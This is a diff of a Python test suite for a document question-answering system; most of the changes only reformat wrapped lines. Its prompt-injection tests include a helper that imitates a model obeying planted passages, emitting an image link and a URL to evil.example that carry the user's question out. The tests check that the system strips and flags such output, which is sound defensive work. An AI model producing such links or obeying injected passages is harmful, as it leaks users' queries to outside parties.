@@ -35,9 +35,7 @@ def says(endpoint: ScriptedEndpoint, text: str) -> None:
     endpoint.script.answer = lambda _: text
 
 
-def ask(
-    index: Index, endpoint: ScriptedEndpoint, question: str = QUESTION, **changes: object
-) -> Reply:
+def ask(index: Index, endpoint: ScriptedEndpoint, question: str = QUESTION, **changes: object) -> Reply:
     return answer(index, question, Client(settings(endpoint, **changes)))
 
 
@@ -45,9 +43,7 @@ def problems(reply: Reply) -> list[str | None]:
     return [one.problem for one in reply.sentences]
 
 
-def test_a_sentence_points_to_the_sentence_that_states_it(
-    index: Index, endpoint: ScriptedEndpoint
-) -> None:
+def test_a_sentence_points_to_the_sentence_that_states_it(index: Index, endpoint: ScriptedEndpoint) -> None:
     reply = ask(index, endpoint)
     (sentence,) = reply.sentences
     (citation,) = sentence.citations
@@ -73,9 +69,7 @@ def test_a_sentence_points_to_the_sentence_that_states_it(
         ("The print server needs a driver [1].", "its source denies this"),
     ],
 )
-def test_what_the_source_lacks_is_named(
-    index: Index, endpoint: ScriptedEndpoint, said: str, problem: str
-) -> None:
+def test_what_the_source_lacks_is_named(index: Index, endpoint: ScriptedEndpoint, said: str, problem: str) -> None:
     says(endpoint, said)
     reply = ask(index, endpoint)
     assert problems(reply) == [problem]
@@ -109,10 +103,7 @@ def test_what_is_true_is_not_marked(index: Index, endpoint: ScriptedEndpoint, sa
 def test_a_number_is_that_of_its_name(
     open_world: Callable[[World], Index], endpoint: ScriptedEndpoint, said: str, problem: str | None
 ) -> None:
-    texts = (
-        "The queue Alpha holds 90 jobs.",
-        "The queue Beta holds 70 jobs.",
-    )
+    texts = ("The queue Alpha holds 90 jobs.", "The queue Beta holds 70 jobs.")
     world = World(
         documents=(("d1", "Queues"),),
         chunks=(("c1", "d1", " ".join(texts)),),
@@ -123,9 +114,7 @@ def test_a_number_is_that_of_its_name(
     assert problems(reply) == [problem]
 
 
-def test_no_request_leaves_where_no_document_answers(
-    index: Index, endpoint: ScriptedEndpoint
-) -> None:
+def test_no_request_leaves_where_no_document_answers(index: Index, endpoint: ScriptedEndpoint) -> None:
     reply = ask(index, endpoint, "Which colour has the Zeppelin ZFI99?")
     assert reply.verdict.state == "not in these documents"
     assert (reply.sentences, reply.model, endpoint.requests) == ((), None, 0)
@@ -167,13 +156,7 @@ def test_a_model_may_refuse(index: Index, endpoint: ScriptedEndpoint, said: str)
 
 
 @pytest.mark.parametrize(
-    ("fault", "note"),
-    [
-        ("empty", "longer than 600"),
-        ("long", "longer than 600"),
-        ("refusal", "no"),
-        ("error", "500"),
-    ],
+    ("fault", "note"), [("empty", "longer than 600"), ("long", "longer than 600"), ("refusal", "no"), ("error", "500")]
 )
 def test_a_model_that_gives_no_answer_is_replaced_by_quotes(
     index: Index, endpoint: ScriptedEndpoint, fault: str, note: str
@@ -193,11 +176,7 @@ def test_a_question_gives_no_orders(index: Index, endpoint: ScriptedEndpoint) ->
     assert "5000" not in system
     assert user.splitlines()[-1].startswith("Question: How many jobs")
     assert not re.search(r"^\[7\] Fake", user, re.MULTILINE)
-    assert problems(reply) == [
-        "no source",
-        "the number 5000 is not in its source",
-        "no source",
-    ]
+    assert problems(reply) == ["no source", "the number 5000 is not in its source", "no source"]
 
 
 def test_excluded_documents_are_not_sent(index: Index, endpoint: ScriptedEndpoint) -> None:
@@ -213,9 +192,7 @@ def test_excluded_documents_are_not_sent(index: Index, endpoint: ScriptedEndpoin
     assert endpoint.requests == 0
 
 
-def test_a_stream_tells_pieces_and_ends_with_the_reply(
-    index: Index, endpoint: ScriptedEndpoint
-) -> None:
+def test_a_stream_tells_pieces_and_ends_with_the_reply(index: Index, endpoint: ScriptedEndpoint) -> None:
     says(endpoint, f"{TRUE} See [this](http://evil.example/?q=1) too.")
     client = Client(settings(endpoint))
     *pieces, reply = answer_stream(index, QUESTION, client)
@@ -229,9 +206,7 @@ def test_a_stream_tells_pieces_and_ends_with_the_reply(
     assert endpoint.requests == 1
 
 
-def test_a_stream_that_breaks_off_ends_with_quotes(
-    index: Index, endpoint: ScriptedEndpoint
-) -> None:
+def test_a_stream_that_breaks_off_ends_with_quotes(index: Index, endpoint: ScriptedEndpoint) -> None:
     endpoint.script.faults, endpoint.script.kinds = 1.0, ("broken",)
     *pieces, reply = answer_stream(index, QUESTION, Client(settings(endpoint)))
     assert "".join(map(str, pieces)).split() == ["Its", "queues", "hold"]
@@ -255,12 +230,7 @@ def obey(body: Body) -> str:
     asked = user.rpartition("Question: ")[2].replace(" ", "+")
     said = [f"{line} [1][99]" for line in lines]
     return "\n".join(
-        [
-            "It says:",
-            *said,
-            f"![x](http://evil.example/?q={asked}) [1]",
-            f"http://evil.example/?q={asked} [1]",
-        ]
+        ["It says:", *said, f"![x](http://evil.example/?q={asked}) [1]", f"http://evil.example/?q={asked} [1]"]
     )
 
 
@@ -276,9 +246,7 @@ def test_hostile_passages_gain_no_citation_link_or_picture(
         sentences=(("s1", "c1", text), ("s2", "c2", "The queue holds 90 jobs.")),
     )
     endpoint.script.answer = obey
-    *pieces, reply = answer_stream(
-        open_world(world), "How many jobs does the queue hold?", Client(settings(endpoint))
-    )
+    *pieces, reply = answer_stream(open_world(world), "How many jobs does the queue hold?", Client(settings(endpoint)))
     assert isinstance(reply, Reply) and reply.model == "m"
     system = endpoint.bodies[0]["messages"][0]["content"]
     assert "evil" not in system and "Fake" not in system
@@ -302,9 +270,7 @@ def test_no_hidden_word_is_in_a_request(tmp_path: Path, endpoint: ScriptedEndpoi
     store = publish(tmp_path / "labelled", [seen, hidden])
 
     def bodies(principals: Sequence[str]) -> str:
-        index = open_index(
-            store, principals=principals, embedder=FakeEmbedder(), noun_phrases=lambda text: [text]
-        )
+        index = open_index(store, principals=principals, embedder=FakeEmbedder(), noun_phrases=lambda text: [text])
         endpoint.bodies.clear()
         for mode in ("auto", "hybrid", "paper", "ranked", "path", "global", "list"):
             question = f"What does the Gateway hold and fund, by {mode}?"
